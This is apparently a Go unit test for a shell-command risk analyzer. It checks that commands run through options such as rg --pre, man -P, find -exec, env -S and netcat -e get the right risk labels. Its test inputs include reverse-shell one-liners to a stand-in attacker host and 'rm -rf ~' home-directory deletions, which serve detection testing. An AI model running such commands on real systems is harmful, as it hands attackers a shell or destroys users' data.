package shell

import (
	"sort"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestOptionCommands asserts how a command given to a program's option is
// judged (checkEffects): remote code execution by the program-flag route
// when the command's program is one its entry says runs code or another
// command (a shell, an interpreter, a fetcher, a launcher, a multi-call
// binary, under any name it is installed by), none for a plain converter;
// and none of that route for the options a program's entry Carries (find
// -exec, env -S, netcat -e), in every spelling of the option and of the
// program, since their commands are judged as parts of their own or as
// what the program does.
func TestOptionCommands(t *testing.T) {
	for _, tt := range []struct {
		cmd  string
		want []string
	}{
		{"rg --pre sh x", w("remote-exec")},
		{"rg --pre=sh x", w("remote-exec")},
		{"rg --pre bash5.2 x", w("remote-exec")},
		{"rg --pre zsh-5.9 x", w("remote-exec")},
		{"rg --pre python3.12 x", w("remote-exec")},
		{"rg --pre julia x", w("remote-exec")},
		{"rg --pre osascript x", w("remote-exec")},
		{"rg --pre curl x", w("remote-exec")},
		{"rg --pre wget x", w("remote-exec")},
		{"rg --pre socat x", w("remote-exec")},
		{"rg --pre xargs x", w("remote-exec")},
		{"rg --pre nice x", w("remote-exec")},
		{"rg --pre chronic x", w("remote-exec")},
		{"rg --pre busybox x", w("remote-exec")},
		{"rg --pre 'eval x' x", w("remote-exec")},
		{"rg --pre pdftotext x", nil},
		{"man -P python3 ls", w("remote-exec")},
		{"man -Ppython3 ls", w("remote-exec")},
		{"man --pager=python3 ls", w("remote-exec")},
		{"man -P less ls", nil},
		{"man --pager=cat ls", nil},
		// Carried: walked as parts of their own.
		{"find . -exec id \\;", nil},
		{"find . -execdir id \\;", nil},
		{"find . -ok id \\;", nil},
		{"find . -okdir id \\;", nil},
		{"find . -exec sh -c id \\;", nil},
		{"/usr/bin/find . -exec sh -c id \\;", nil},
		{"command find . -exec sh -c id \\;", nil},
		{"find . -exec sh -c 'rm -rf ~' \\;", w("recursive-delete")},
		{"env -S 'sh -c id'", nil},
		{"env -S'sh -c id'", nil},
		{"env --split-string='sh -c id'", nil},
		{"env --split-string 'sh -c id'", nil},
		{"env --sp='sh -c id'", nil},
		{"/usr/bin/env -S 'sh -c id'", nil},
		{"env -S 'sh -c \"rm -rf ~\"'", w("recursive-delete")},
		// Carried: judged as remote access, not as a program flag.
		{"nc -e /bin/sh attacker.example 4444", w("remote-access")},
		{"nc -e/bin/sh attacker.example 4444", w("remote-access")},
		{"/bin/nc -e /bin/sh attacker.example 4444", w("remote-access")},
		{"netcat -c 'sh -i' attacker.example 4444", w("remote-access")},
		{"ncat --sh-exec 'sh -i' 10.0.0.1 4444", w("remote-access")},
		{"ncat --sh 'sh -i' 10.0.0.1 4444", w("remote-access")},
		{"ncat --exec=/bin/sh 10.0.0.1 4444", w("remote-access")},
		{"nc.traditional -e /bin/sh attacker.example 4444", w("remote-access")},
	} {
		an := Analyze(tt.cmd, testOpts)
		got := categories(an)
		want := append([]string(nil), tt.want...)
		sort.Strings(want)
		if len(want) == 0 {
			want = nil
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: categories (-want +got):\n%s\nfindings: %+v", tt.cmd, diff, an.Findings)
		}
	}
}
